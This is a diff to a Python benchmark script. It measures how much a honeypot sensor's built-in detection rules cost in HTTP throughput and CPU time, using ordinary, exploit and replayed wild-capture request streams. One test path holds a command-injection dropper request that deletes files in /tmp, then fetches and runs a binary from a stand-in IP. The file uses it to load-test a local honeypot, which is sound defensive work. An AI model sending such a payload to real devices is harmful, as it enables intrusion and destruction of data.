@@ -3,17 +3,27 @@
 Two sensors (Apache persona, uvloop, bench_http's counting sink: every event built and JSON-encoded)
 run side by side on core 0, one with the full built-in rule set labelling every event as it is
 recorded, one without a labeler; ``wrk -t1 -c64`` on core 1 drives each in alternating rounds
-(best round of each reported, the machine may be shared), once with ordinary requests and
-once with a dropper exploit in the target, every request distinct (a counter in the target).
-Target: detection on >= 0.8 of detection off.
+(best round of each reported, the machine may be shared). Three request streams:
+
+- ordinary requests and dropper exploits, every request of the whole run distinct (a counter in
+  the target that no round restarts), so the result cache for repeated requests never answers;
+- the wild capture (../shared/data/wild-http) replayed as it arrived: each distinct request
+  repeated by its count, shuffled, so about 97 % are repeats, as in real honeypot traffic. This
+  one is reported apart: the result cache answers most of it.
+
+The sensors' CPU time per request (from /proc) is reported beside the rates: it is the figure that
+survives a busy machine. Target: detection on >= 0.8 of detection off.
 """
 
 from __future__ import annotations
 
 import argparse
 import asyncio
+import base64
 import contextlib
+import itertools
 import json
+import random
 import re
 import signal
 import subprocess
@@ -29,19 +39,32 @@ sys.path.insert(0, str(HERE.parent / "src"))
 from bench_http import best, cpu_seconds, free_port, need  # noqa: E402
 from http_sensor_server import CountingSink  # noqa: E402
 
-# Every request distinct (a counter in the target), so that the labeler's result cache, which
-# answers repeats (most honeypot traffic), cannot flatter the figure.
+WILD = HERE.parents[1] / "shared" / "data" / "wild-http" / "requests.jsonl"
 PATHS = {
     "ordinary": "/index.html?page=",
     "exploit": "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws&n=",
 }
-LUA = """
-local n = 0
+DISTINCT_LUA = """
+local n = {first}
 request = function()
   n = n + 1
   return wrk.format("GET", "{path}" .. n)
 end
 """
+# the wild stream: a table of distinct requests and the order they arrive in
+WILD_LUA = """
+local requests = {{requests}}
+local order = {}
+for index in string.gmatch("{order}", "%d+") do order[#order + 1] = tonumber(index) end
+local n = {first} % #order
+request = function()
+  n = n % #order + 1
+  return requests[order[n]]
+end
+"""
+_RUNS = itertools.count(1)
+# framing and connection headers are the client's business: wrk keeps every connection alive
+_HOP_HEADERS = {b"connection", b"keep-alive", b"content-length", b"transfer-encoding", b"proxy-connection", b"te"}
 
 
 async def serve(port: int, detect: bool) -> dict[str, object]:
@@ -57,8 +80,10 @@ async def serve(port: int, detect: bool) -> dict[str, object]:
             labeled["labeled"] += bool(getattr(event, "rules", None))
 
     sink = CountingLabels()
-    settings = SensorSettings(listeners=[Listener(service="http", port=port, persona="apache-ubuntu")],
-                              limits=Limits(max_connections=4096, max_commands=1_000_000))
+    settings = SensorSettings(
+        listeners=[Listener(service="http", port=port, persona="apache-ubuntu")],
+        limits=Limits(max_connections=4096, max_commands=1_000_000),
+    )
     labeler = load_labeler(DetectSettings()) if detect else None
     with tempfile.TemporaryDirectory() as data_dir:
         sensor = Sensor(settings, sink=sink, data_dir=Path(data_dir), labeler=labeler)
@@ -89,46 +114,133 @@ def sensor(detect: bool) -> Iterator[tuple[subprocess.Popen[str], int, dict[str,
     counts.update(json.loads(out.strip().splitlines()[-1]))
 
 
+def streams(quick: bool) -> dict[str, tuple[str, dict[str, object]]]:
+    """name -> (wrk Lua script template, what it sends)."""
+    out = {
+        f"{name} requests": (DISTINCT_LUA.replace("{path}", path), {"path": path, "requests": "every one distinct"})
+        for name, path in PATHS.items()
+    }
+    wild = wild_stream(30_000 if quick else 200_000)
+    if wild is not None:
+        out["wild-capture mix, result cache answering repeats"] = wild
+    return out
+
+
 def compare(quick: bool) -> None:
     rounds, seconds = (2, 2) if quick else (3, 4)
     with sensor(True) as (on_proc, on_port, on_counts), sensor(False) as (off_proc, off_port, _):
-        for name, path in PATHS.items():
+        for name, (lua, sends) in streams(quick).items():
             on_runs, off_runs = [], []
-            wrk(on_port, 1, path)  # warm up
+            wrk(on_port, 1, lua)  # warm up
             for _ in range(rounds):  # alternate, so that both see the same background load
-                on_runs.append(_measure(on_proc.pid, on_port, seconds, path))
-                off_runs.append(_measure(off_proc.pid, off_port, seconds, path))
+                on_runs.append(_measure(on_proc.pid, on_port, seconds, lua))
+                off_runs.append(_measure(off_proc.pid, off_port, seconds, lua))
             on, off = best(on_runs), best(off_runs)
-            print(json.dumps({
-                "figure": f"sensor http_rps with detection on ({name} requests)", "value": round(on["rps"]),
-                "unit": "requests/s",
-                "reference": {"name": "the same sensor with detection off", "value": round(off["rps"]),
-                              "unit": "requests/s"},
-                "ratio": round(on["rps"] / off["rps"], 3), "target": ">= 0.8",
-                "params": {"path": path, "wrk": f"-t1 -c64, {rounds} alternating rounds of {seconds}s, best",
-                           "on_rounds_rps": [round(r["rps"]) for r in on_runs],
-                           "off_rounds_rps": [round(r["rps"]) for r in off_runs],
-                           "on_cpu_us_per_request": on["cpu_us_per_request"],
-                           "off_cpu_us_per_request": off["cpu_us_per_request"],
-                           "cores": "sensors on core 0, wrk on core 1", "quick": quick},
-            }), flush=True)
+            print(json.dumps(figure(name, on, off, on_runs, off_runs, sends, rounds, seconds, quick)), flush=True)
     print(json.dumps({"detection_on_sensor_events": on_counts}), file=sys.stderr)
 
 
-def _measure(pid: int, port: int, seconds: int, path: str) -> dict[str, float]:
+def figure(
+    name: str,
+    on: dict[str, float],
+    off: dict[str, float],
+    on_runs: list[dict[str, float]],
+    off_runs: list[dict[str, float]],
+    sends: dict[str, object],
+    rounds: int,
+    seconds: int,
+    quick: bool,
+) -> dict[str, object]:
+    return {
+        "figure": f"sensor http_rps with detection on ({name})",
+        "value": round(on["rps"]),
+        "unit": "requests/s",
+        "reference": {"name": "the same sensor with detection off", "value": round(off["rps"]), "unit": "requests/s"},
+        "ratio": round(on["rps"] / off["rps"], 3),
+        "target": ">= 0.8",
+        "params": {
+            **sends,
+            "wrk": f"-t1 -c64, {rounds} alternating rounds of {seconds}s, best",
+            "on_rounds_rps": [round(r["rps"]) for r in on_runs],
+            "off_rounds_rps": [round(r["rps"]) for r in off_runs],
+            "on_cpu_us_per_request": on["cpu_us_per_request"],
+            "off_cpu_us_per_request": off["cpu_us_per_request"],
+            "cpu_ratio": round(off["cpu_us_per_request"] / on["cpu_us_per_request"], 3),
+            "labelling": "in batches, once per event-loop turn (sensor/sinks.py LabellingSink)",
+            "cores": "sensors on core 0, wrk on core 1",
+            "quick": quick,
+        },
+    }
+
+
+def wild_stream(limit: int) -> tuple[str, dict[str, object]] | None:
+    """The wild capture as it arrived (each distinct request repeated by its count, shuffled),
+    as a wrk script; None when the capture is not there."""
+    if not WILD.exists():
+        return None
+    from honeyguard.detect.httpsplit import split_http
+
+    distinct: list[bytes] = []
+    order: list[int] = []
+    skipped = 0
+    for line in WILD.open():
+        item = json.loads(line)
+        request = keep_alive_request(split_http(base64.b64decode(item["request_b64"])))
+        if request is None:
+            skipped += 1
+            continue
+        distinct.append(request)
+        order += [len(distinct)] * int(item.get("count") or 1)
+    random.Random(7).shuffle(order)
+    order = order[:limit]
+    lua = WILD_LUA.replace("{requests}", ",".join(_lua_string(r) for r in distinct)).replace(
+        "{order}", " ".join(map(str, order))
+    )
+    repeats = 1 - len(set(order)) / len(order)
+    return lua, {
+        "requests": f"wild-http capture, {len(order)} requests in arrival order, {len(set(order))} "
+        f"distinct ({repeats:.1%} repeats; {skipped} not HTTP left out); HEAD and CONNECT "
+        "sent as GET, HTTP/1.1, framing headers rewritten for keep-alive"
+    }
+
+
+def keep_alive_request(parts: object) -> bytes | None:
+    """A captured request as a keep-alive HTTP/1.1 request wrk can read the answer to."""
+    from honeyguard.detect.httpsplit import SplitRequest
+
+    if not isinstance(parts, SplitRequest) or not parts.target:
+        return None
+    method = b"GET" if parts.method.upper() in (b"HEAD", b"CONNECT") else parts.method
+    headers = [(n, v) for n, v in parts.headers if n.lower() not in _HOP_HEADERS and n]
+    if not any(n.lower() == b"host" for n, _ in headers):
+        headers.insert(0, (b"Host", b"127.0.0.1"))
+    if parts.body:
+        headers.append((b"Content-Length", b"%d" % len(parts.body)))
+    lines = b"".join(b"%s: %s\r\n" % (n, v) for n, v in headers)
+    return b"%s %s HTTP/1.1\r\n%s\r\n%s" % (method, parts.target, lines, parts.body)
+
+
+def _lua_string(data: bytes) -> str:
+    """``data`` as a Lua string literal (decimal escapes for everything but plain printable ASCII)."""
+    return '"' + "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else f"\\{b:03d}" for b in data) + '"'
+
+
+def _measure(pid: int, port: int, seconds: int, lua: str) -> dict[str, float]:
     """Requests/s by wrk, and the sensor's CPU per request (steadier on a busy machine)."""
     before = cpu_seconds(pid)
-    result = wrk(port, seconds, path)
+    result = wrk(port, seconds, lua)
     result["cpu_us_per_request"] = round((cpu_seconds(pid) - before) / max(result["requests"], 1) * 1e6, 1)
     return result
 
 
-def wrk(port: int, seconds: int, path: str) -> dict[str, float]:
+def wrk(port: int, seconds: int, lua: str) -> dict[str, float]:
+    """One wrk run; its counter starts where no earlier run's reached, so that no request of the
+    distinct streams repeats an earlier one (a run sends far fewer than 10^8)."""
     with tempfile.NamedTemporaryFile("w", suffix=".lua") as script:
-        script.write(LUA.replace("{path}", path))
+        script.write(lua.replace("{first}", str(next(_RUNS) * 10**8)))
         script.flush()
-        command = [need("taskset"), "-c", "1", need("wrk"), "-t1", "-c64", f"-d{seconds}s", "-s", script.name,
-                   f"http://127.0.0.1:{port}/"]
+        command = [need("taskset"), "-c", "1", need("wrk"), "-t1", "-c64", f"-d{seconds}s", "-s", script.name]
+        command.append(f"http://127.0.0.1:{port}/")
         output = subprocess.run(command, capture_output=True, text=True, check=True).stdout
     rps = re.search(r"Requests/sec:\s+([\d.]+)", output)
     total = re.search(r"(\d+) requests in", output)
